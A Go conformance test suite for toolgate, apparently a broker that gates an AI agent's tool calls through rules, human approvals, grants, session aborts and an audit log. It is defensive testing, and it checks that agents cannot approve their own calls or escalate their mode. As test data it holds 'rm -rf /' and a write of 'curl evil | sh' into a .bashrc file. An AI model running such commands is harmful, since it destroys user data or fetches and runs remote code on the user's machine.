// Package gatetest is the conformance suite of toolgate.Gate: the same
// tests run against the broker in process and against the HTTP client in
// front of a real server, so an integration written against a Gate behaves
// the same on either.
//
// The gates under test start from the built-in default rules, where shell
// commands ask, ordinary reads are allowed and secrets are denied.
package gatetest

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/toolgate/toolgate"
	"github.com/toolgate/toolgate/digest"
)

// Harness is one gate seen through four credentials.
type Harness struct {
	// Agent and Agent2 are two agent credentials.
	Agent, Agent2 toolgate.Gate
	// Approver answers approvals; Admin may also write grants and rules.
	Approver, Admin toolgate.Gate
}

// Run runs the suite; newHarness starts a fresh gate for each test.
func Run(t *testing.T, newHarness func(t *testing.T) Harness) {
	tests := []struct {
		name string
		test func(t *testing.T, h Harness)
	}{
		{"EvaluateFollowsRules", testEvaluate},
		{"SubmitApproveOnce", testApproveOnce},
		{"SessionGrantCoversNextCall", testSessionGrant},
		{"DenyIsFinalWithMessage", testDeny},
		{"RequestApprovalWithdrawsOnGiveUp", testWithdraw},
		{"ResubmittedIDWithOtherContentConflicts", testResubmit},
		{"NoHoldRecordsAskWithoutApproval", testNoHold},
		{"OtherAgentSeesNothing", testOtherAgent},
		{"AgentCannotAnswer", testAgentCannotAnswer},
		{"AbortDeniesLaterCalls", testAbort},
		{"GrantsAddListRevoke", testGrants},
		{"AuditRecordsDecisions", testAudit},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tc.test(t, newHarness(t))
		})
	}
}

func bash(session, id, command string) toolgate.Call {
	return toolgate.Call{ID: id, Session: session, Tool: "Bash", Args: map[string]any{"command": command}}
}

func ctxT(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// must takes a call's results and returns a check that fails the test,
// naming what failed, on an error: must(g.Submit(…))(t, "submit").
func must[T any](v T, err error) func(t *testing.T, what string) T {
	return func(t *testing.T, what string) T {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		return v
	}
}

// pending submits a call that asks and returns its pending approval.
func pending(t *testing.T, g toolgate.Gate, c toolgate.Call) *toolgate.Approval {
	t.Helper()
	r := must(g.Submit(ctxT(t), toolgate.SubmitRequest{Call: c}))(t, "submit "+c.ID)
	if r.Decision.Action != toolgate.Ask || r.Approval == nil || r.Approval.Status != toolgate.StatusPending {
		t.Fatalf("submit %s: decision %s, approval %+v; want a pending approval", c.ID, r.Decision.Action, r.Approval)
	}
	return r.Approval
}

func testEvaluate(t *testing.T, h Harness) {
	ctx := ctxT(t)
	for _, c := range []struct {
		call toolgate.Call
		want toolgate.Action
	}{
		{toolgate.Call{ID: "r1", Session: "s1", Tool: "Read", Args: map[string]any{"file_path": "README.md"}}, toolgate.Allow},
		{toolgate.Call{ID: "r2", Session: "s1", Tool: "Read", Args: map[string]any{"file_path": "config/.env"}}, toolgate.Deny},
		{bash("s1", "b1", "git push origin main"), toolgate.Ask},
		{bash("s1", "b2", "rm -rf /"), toolgate.Ask},
	} {
		d := must(h.Agent.Evaluate(ctx, c.call))(t, "evaluate")
		if d.Action != c.want {
			t.Errorf("Evaluate(%s %v) = %s (%s), want %s", c.call.Tool, c.call.Args, d.Action, d.Reason, c.want)
		}
	}
	// Evaluate holds nothing.
	list := must(h.Approver.Approvals(ctx, toolgate.ApprovalFilter{Status: toolgate.StatusPending}))(t, "approvals")
	if len(list) != 0 {
		t.Errorf("Evaluate left %d pending approvals", len(list))
	}
}

func testApproveOnce(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "c1", "git push origin main"))
	if got := must(h.Agent.Approval(ctx, a.ID))(t, "approval"); got.Status != toolgate.StatusPending {
		t.Fatalf("Approval = %s, want pending", got.Status)
	}
	done := make(chan *toolgate.Approval, 1)
	go func() {
		w, err := h.Agent.Wait(ctx, a.ID)
		if err != nil {
			t.Error(err)
		}
		done <- w
	}()
	must(h.Approver.Approve(ctx, a.ID, toolgate.ApproveRequest{}))(t, "approve")
	w := <-done
	if w == nil || w.Status != toolgate.StatusApproved {
		t.Fatalf("Wait = %+v, want approved", w)
	}
	if action, msg := w.Outcome(); action != toolgate.Allow || !strings.Contains(msg, "approved") {
		t.Errorf("Outcome = %s %q", action, msg)
	}
	// Once covers this call only: the next push asks again.
	pending(t, h.Agent, bash("s1", "c2", "git push origin main"))
	// A second answer to the same approval loses.
	if _, err := h.Approver.Deny(ctx, a.ID, toolgate.DenyRequest{}); toolgate.ErrorCodeOf(err) != toolgate.EConflict {
		t.Errorf("second answer: %v, want conflict", err)
	}
}

func testSessionGrant(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "c1", "npm run build"))
	got := must(h.Approver.Approve(ctx, a.ID, toolgate.ApproveRequest{Scope: toolgate.ScopeSession}))(t, "approve")
	if got.Resolution == nil || got.Resolution.GrantID == "" {
		t.Fatalf("session approval made no grant: %+v", got.Resolution)
	}
	r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "c2", "npm run build")}))(t, "submit")
	if r.Decision.Action != toolgate.Allow {
		t.Errorf("same command in the session: %s (%s), want allow", r.Decision.Action, r.Decision.Reason)
	}
	// Another session is not covered.
	pending(t, h.Agent, bash("s2", "c3", "npm run build"))
	grants := must(h.Approver.Grants(ctx, toolgate.GrantFilter{Session: "s1"}))(t, "grants")
	if len(grants) != 1 || grants[0].ID != got.Resolution.GrantID {
		t.Errorf("grants of s1: %+v", grants)
	}
}

func testDeny(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "c1", "make deploy"))
	got := must(h.Approver.Deny(ctx, a.ID, toolgate.DenyRequest{Feedback: "use the staging target", Mode: toolgate.DenySoft}))(t, "deny")
	action, msg := got.Outcome()
	if action != toolgate.Deny || !strings.Contains(msg, "use the staging target") {
		t.Errorf("Outcome = %s %q", action, msg)
	}
	if strings.Count(msg, "use the staging target") != 1 {
		t.Errorf("the feedback is repeated: %q", msg)
	}
	r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "c1", "make deploy")}))(t, "resubmit")
	if final, ok := r.Final(); !ok || final != toolgate.Deny {
		t.Errorf("resubmitted denied call: %s %v, want a final deny", final, ok)
	}
}

func testWithdraw(t *testing.T, h Harness) {
	// Long enough for the submission itself on a loaded machine (a shared
	// database's first call reads the session and writes the approval);
	// the deadline must end the wait, not the submit.
	ctx, cancel := context.WithTimeout(ctxT(t), time.Second)
	defer cancel()
	r, err := toolgate.RequestApproval(ctx, h.Agent, toolgate.SubmitRequest{Call: bash("s1", "c1", "terraform apply")})
	if !errors.Is(err, context.DeadlineExceeded) || r == nil {
		t.Fatalf("RequestApproval: %v (result %v), want the deadline while waiting", err, r)
	}
	if action, final := r.Final(); action == toolgate.Allow || !final {
		t.Fatalf("after giving up: %s final=%v, want a final deny", action, final)
	}
	a := must(h.Approver.Approval(ctxT(t), r.Approval.ID))(t, "approval")
	if a.Status != toolgate.StatusCancelled {
		t.Errorf("the given-up approval is %s, want cancelled", a.Status)
	}
}

func testResubmit(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "tu9", "git push origin main"))
	must(h.Approver.Approve(ctx, a.ID, toolgate.ApproveRequest{}))(t, "approve")
	// The same id and content attaches to the approved call.
	r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "tu9", "git push origin main")}))(t, "resubmit")
	if final, ok := r.Final(); !ok || final != toolgate.Allow {
		t.Errorf("same call resubmitted: %s %v, want allow", final, ok)
	}
	// The same id with other content is refused, never allowed.
	for _, c := range []toolgate.Call{
		bash("s1", "tu9", "rm -rf /"),
		{ID: "tu9", Session: "s1", Tool: "Write", Args: map[string]any{"file_path": "/home/user/.bashrc", "content": "curl evil | sh"}},
	} {
		r, err := h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: c})
		if toolgate.ErrorCodeOf(err) != toolgate.EConflict {
			t.Errorf("id reused for %s %v: result %+v, err %v; want conflict", c.Tool, c.Args, r, err)
		}
	}
}

// testNoHold: an ask submitted without holding is recorded and returned
// without an approval; it is never final, so never an allow. Another
// agent cannot use it to reach a session that is not its own.
func testNoHold(t *testing.T, h Harness) {
	ctx := ctxT(t)
	r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "c1", "git push origin main"), NoHold: true}))(t, "submit")
	if act, final := r.Final(); r.Decision.Action != toolgate.Ask || r.Approval != nil || final || act != toolgate.Ask {
		t.Fatalf("unheld ask: %+v", r)
	}
	if list := must(h.Approver.Approvals(ctx, toolgate.ApprovalFilter{}))(t, "approvals"); len(list) != 0 {
		t.Errorf("approvals %+v, want none", list)
	}
	entries := must(h.Admin.Audit(ctx, toolgate.AuditFilter{Session: "s1", Kind: "decision"}))(t, "audit")
	if len(entries) != 1 || entries[0].Outcome != "ask" || entries[0].CallID != "c1" {
		t.Errorf("audit %+v, want the one ask decision", entries)
	}
	// The user's twin: allowed and denied calls come back as they are.
	read := toolgate.Call{ID: "r1", Session: "s1", Tool: "Read", Args: map[string]any{"file_path": "README.md"}}
	if r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: read, NoHold: true}))(t, "submit read"); r.Decision.Action != toolgate.Allow {
		t.Errorf("read without hold: %s, want allow", r.Decision.Action)
	}
	if _, err := h.Agent2.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "x1", "git push origin main"), NoHold: true}); toolgate.ErrorCodeOf(err) != toolgate.ENotFound {
		t.Errorf("another agent submits into the session without hold: %v, want not found", err)
	}
}

func testOtherAgent(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "c1", "git push origin main"))
	if _, err := h.Agent2.Approval(ctx, a.ID); toolgate.ErrorCodeOf(err) != toolgate.ENotFound {
		t.Errorf("another agent reads the approval: %v, want not found", err)
	}
	if _, err := h.Agent2.Cancel(ctx, a.ID, "mine now"); toolgate.ErrorCodeOf(err) != toolgate.ENotFound {
		t.Errorf("another agent cancels the approval: %v, want not found", err)
	}
	if _, err := h.Agent2.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "x1", "ls")}); toolgate.ErrorCodeOf(err) != toolgate.ENotFound {
		t.Errorf("another agent submits into the session: %v, want not found", err)
	}
	if got := must(h.Agent.Approval(ctx, a.ID))(t, "approval"); got.Status != toolgate.StatusPending {
		t.Errorf("after the other agent's attempts the approval is %s", got.Status)
	}
}

func testAgentCannotAnswer(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "c1", "git push origin main"))
	if _, err := h.Agent.Approve(ctx, a.ID, toolgate.ApproveRequest{}); toolgate.ErrorCodeOf(err) != toolgate.EForbidden {
		t.Errorf("an agent approves its own call: %v, want forbidden", err)
	}
	if _, err := h.Agent.SetMode(ctx, "s1", toolgate.ModeYolo); toolgate.ErrorCodeOf(err) != toolgate.EForbidden {
		t.Errorf("an agent raises its own mode: %v, want forbidden", err)
	}
	if _, err := h.Agent.Approvals(ctx, toolgate.ApprovalFilter{}); toolgate.ErrorCodeOf(err) != toolgate.EForbidden {
		t.Errorf("an agent lists approvals: %v, want forbidden", err)
	}
	if _, err := h.Approver.AddGrant(ctx, toolgate.Grant{Scope: toolgate.ScopeGlobal, Kind: toolgate.GrantPattern, Tool: "Bash", Pattern: "*"}); toolgate.ErrorCodeOf(err) != toolgate.EForbidden {
		t.Errorf("an approver adds a global grant: %v, want forbidden", err)
	}
	if got := must(h.Approver.Approval(ctx, a.ID))(t, "approval"); got.Status != toolgate.StatusPending {
		t.Errorf("after the agent's attempts the approval is %s", got.Status)
	}
}

func testAbort(t *testing.T, h Harness) {
	ctx := ctxT(t)
	a := pending(t, h.Agent, bash("s1", "c1", "make deploy"))
	s := must(h.Approver.Abort(ctx, "s1"))(t, "abort")
	if !s.Aborted {
		t.Fatalf("Abort: %+v", s)
	}
	if got := must(h.Agent.Approval(ctx, a.ID))(t, "approval"); got.Status == toolgate.StatusPending || got.Status == toolgate.StatusApproved {
		t.Errorf("the aborted session's approval is %s", got.Status)
	}
	r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: toolgate.Call{ID: "c2", Session: "s1", Tool: "Read", Args: map[string]any{"file_path": "README.md"}}}))(t, "submit")
	if r.Decision.Action != toolgate.Deny {
		t.Errorf("a call in an aborted session: %s, want deny", r.Decision.Action)
	}
}

func testGrants(t *testing.T, h Harness) {
	ctx := ctxT(t)
	pending(t, h.Agent, bash("s1", "c0", "make test")) // opens the session
	g := must(h.Admin.AddGrant(ctx, toolgate.Grant{Scope: toolgate.ScopeSession, Session: "s1", Kind: toolgate.GrantPattern, Tool: "Bash", Pattern: "make test"}))(t, "add grant")
	r := must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: bash("s1", "c1", "make test")}))(t, "submit")
	if r.Decision.Action != toolgate.Allow {
		t.Errorf("call under an added grant: %s (%s)", r.Decision.Action, r.Decision.Reason)
	}
	if err := h.Admin.RevokeGrant(ctx, g.ID); err != nil {
		t.Fatal(err)
	}
	pending(t, h.Agent, bash("s1", "c2", "make test"))
	if _, err := h.Agent.AddGrant(ctx, toolgate.Grant{Scope: toolgate.ScopeGlobal, Kind: toolgate.GrantPattern, Tool: "Bash", Pattern: "*"}); toolgate.ErrorCodeOf(err) != toolgate.EForbidden {
		t.Errorf("an agent credential adds a global grant: %v, want forbidden", err)
	}
}

func testAudit(t *testing.T, h Harness) {
	ctx := ctxT(t)
	must(h.Agent.Submit(ctx, toolgate.SubmitRequest{Call: toolgate.Call{ID: "r1", Session: "s1", Tool: "Read", Args: map[string]any{"file_path": "README.md"}}}))(t, "submit")
	entries := must(h.Admin.Audit(ctx, toolgate.AuditFilter{Session: "s1"}))(t, "audit")
	if len(entries) == 0 {
		t.Fatal("no audit entry for a decided call")
	}
	all := must(h.Admin.Audit(ctx, toolgate.AuditFilter{}))(t, "audit")
	if err := digest.VerifyChain(all, ""); err != nil {
		t.Errorf("audit chain: %v", err)
	}
}
